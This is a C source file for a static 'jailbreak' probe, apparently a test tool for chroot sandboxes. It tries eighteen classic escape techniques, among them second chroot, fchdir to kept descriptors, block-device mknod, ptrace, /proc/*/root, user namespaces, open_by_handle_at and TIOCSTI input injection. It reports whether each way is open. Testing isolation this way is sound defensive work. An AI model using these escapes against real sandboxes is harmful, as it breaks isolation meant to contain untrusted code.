/* SPDX-License-Identifier: Apache-2.0 */
/*
 * jailbreak: tries one classic way out of a chroot. Static, so that it runs in any root file system, and harmless: what it
 * reaches it looks at.
 *
 *   jailbreak WAY [ARGUMENT…]    WAY: a name of the table at the end
 *
 * It prints "OUT: …" and ends with 0 if the way is open, else "held: …" and ends with 1. MARKER is a path on the host that no
 * jail has.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define UP 64 /* more than any path here has parts */

static int out(const char *what)
{
	printf("OUT: %s\n", what);
	return 0;
}

static int held(const char *at)
{
	printf("held: %s: %s\n", at, strerror(errno));
	return 1;
}

/* From wherever "." is up to the real root, and whether MARKER is there. */
static int look_from_here(const char *marker)
{
	struct stat status;

	for (int i = 0; i < UP; i++)
		if (chdir("..") < 0)
			return held("chdir(..)");
	return stat(marker + 1, &status) == 0 ? out(marker) : held(marker);
}

/* A second chroot leaves the working directory above the new root: nothing stops ".." from there. */
static int second_chroot(char **args)
{
	mkdir("/tmp-jailbreak", 0755);
	if (chroot("/tmp-jailbreak") < 0 && chroot("/bin") < 0)
		return held("chroot");
	return look_from_here(args[0]);
}

/* The same with the directory kept as a descriptor. */
static int chroot_and_fchdir(char **args)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0 || chroot("/bin") < 0)
		return held("chroot");
	return fchdir(fd) < 0 ? held("fchdir") : look_from_here(args[0]);
}

/* A directory of the host's that was open when the jail began. */
static int kept_descriptor(char **args)
{
	for (int fd = 3; fd < 1024; fd++)
		if (fchdir(fd) == 0)
			return look_from_here(args[0]);
	return held("no descriptor is a directory");
}

static int walk_up(char **args)
{
	struct stat status;
	char path[4096] = "";

	for (int i = 0; i < UP; i++)
		strcat(path, "/..");
	strcat(path, args[0]);
	if (stat(path, &status) == 0)
		return out(path);
	return chdir("/") < 0 ? held("chdir") : look_from_here(args[0]);
}

/* MAJOR MINOR of the disk; or PATH of a node that was there before. */
static int make_disk(char **args)
{
	dev_t device = makedev((unsigned)atoi(args[0]), (unsigned)atoi(args[1]));
	char byte;
	int fd;

	if (mknod("/jailbreak-disk", S_IFBLK | 0600, device) < 0 && mknod("/tmp/jailbreak-disk", S_IFBLK | 0600, device) < 0)
		return held("mknod");
	fd = open("/jailbreak-disk", O_RDONLY);
	if (fd < 0)
		return held("open of the node");
	return read(fd, &byte, 1) == 1 ? out("the disk was read") : held("read of the node");
}

static int open_node(char **args)
{
	char byte;
	int fd = open(args[0], O_RDONLY);

	return fd >= 0 && read(fd, &byte, 1) == 1 ? out("the device was read") : held(args[0]);
}

/* PID of a process outside, and ADDRESS: it is the caller's own user's. */
static int trace_outside(char **args)
{
	pid_t pid = atoi(args[0]);

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return held("ptrace");
	waitpid(pid, NULL, 0);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return out("a process outside was traced");
}

static int signal_outside(char **args)
{
	return kill(atoi(args[0]), 0) == 0 ? out("a process outside can be sent signals") : held("kill");
}

static int make_mount(char **args)
{
	(void)args;
	if (mount("none", "/bin", "tmpfs", 0, NULL) < 0)
		return held("mount");
	umount2("/bin", MNT_DETACH);
	return out("a file system was mounted");
}

/* The host's own processes by /proc: MARKER beneath the root of one of them. */
static int proc_root(char **args)
{
	char path[4096];
	struct stat status;

	if (stat("/proc/self", &status) < 0 && mount("proc", "/proc", "proc", 0, NULL) < 0)
		return held("/proc");
	for (int pid = 1; pid < 32768; pid++) {
		snprintf(path, sizeof path, "/proc/%d/root%s", pid, args[0]);
		if (stat(path, &status) == 0)
			return out(path);
	}
	return held("/proc/*/root");
}

/* In a user namespace of one's own chroot(2) is allowed, if the kernel makes one in a jail. */
static int user_namespace(char **args)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (unshare(CLONE_NEWUSER) < 0)
		return held("unshare(CLONE_NEWUSER)");
	if (chroot("/bin") < 0 || fchdir(fd) < 0)
		return held("chroot");
	return look_from_here(args[0]);
}

/* PROGRAM is this one, set-user-ID root. */
static int set_user_id(char **args)
{
	execl(args[0], args[0], "am-i-root", NULL);
	return held(args[0]);
}

static int am_i_root(char **args)
{
	(void)args;
	if (geteuid() == 0)
		return out("root");
	errno = EPERM;
	return held("geteuid");
}

/* Of any of the sets. */
static int any_capability(char **args)
{
	struct __user_cap_header_struct head = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct sets[2] = { 0 };

	(void)args;
	if (syscall(SYS_capget, &head, sets) < 0)
		return held("capget");
	for (int i = 0; i < 2; i++)
		if (sets[i].effective | sets[i].permitted | sets[i].inheritable)
			return out("a capability");
	for (int i = 0; prctl(PR_CAPBSET_READ, i) >= 0; i++)
		if (prctl(PR_CAPBSET_READ, i) == 1)
			return out("a capability could be gained");
	errno = EPERM;
	return held("capget");
}

/* A file by its number, wherever it is in the file system. */
static int by_handle(char **args)
{
	struct {
		struct file_handle head;
		unsigned char bytes[MAX_HANDLE_SZ];
	} handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, fd = open("/", O_RDONLY | O_DIRECTORY);

	(void)args;
	if (name_to_handle_at(AT_FDCWD, "/bin", &handle.head, &mount_id, 0) < 0)
		return held("name_to_handle_at");
	return open_by_handle_at(fd, &handle.head, O_RDONLY) >= 0 ? out("files of the whole file system") : held("open_by_handle_at");
}

/* ID of a shared memory segment that is open to all. */
static int shared_memory(char **args)
{
	return shmat(atoi(args[0]), NULL, SHM_RDONLY) != (void *)-1 ? out("shared memory of others") : held("shmat");
}

/* DESCRIPTION of a key in the caller's session keyring. */
static int session_key(char **args)
{
	return syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", args[0], 0) >= 0 ? out("a key of the caller's") : held("keyctl");
}

/* What the caller's shell would read as typed, on its terminal. */
static int terminal_input(char **args)
{
	(void)args;
	return ioctl(STDIN_FILENO, TIOCSTI, " ") == 0 ? out("written into the terminal") : held("ioctl(TIOCSTI)");
}

static const struct {
	const char *name;
	int (*try)(char **args);
	int arguments;
} ways[] = {
	{ "second-chroot", second_chroot, 1 }, { "chroot-and-fchdir", chroot_and_fchdir, 1 }, { "kept-descriptor", kept_descriptor, 1 },
	{ "walk-up", walk_up, 1 }, { "make-disk", make_disk, 2 }, { "open-node", open_node, 1 }, { "trace-outside", trace_outside, 1 },
	{ "signal-outside", signal_outside, 1 }, { "make-mount", make_mount, 0 }, { "proc-root", proc_root, 1 }, { "user-namespace", user_namespace, 1 },
	{ "set-user-id", set_user_id, 1 }, { "am-i-root", am_i_root, 0 }, { "any-capability", any_capability, 0 }, { "by-handle", by_handle, 0 },
	{ "shared-memory", shared_memory, 1 }, { "session-key", session_key, 1 }, { "terminal-input", terminal_input, 0 },
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof ways / sizeof ways[0]; i++)
		if (strcmp(argv[1], ways[i].name) == 0 && argc - 2 == ways[i].arguments)
			return ways[i].try(argv + 2);
	fprintf(stderr, "jailbreak: no such way\n");
	return 2;
}
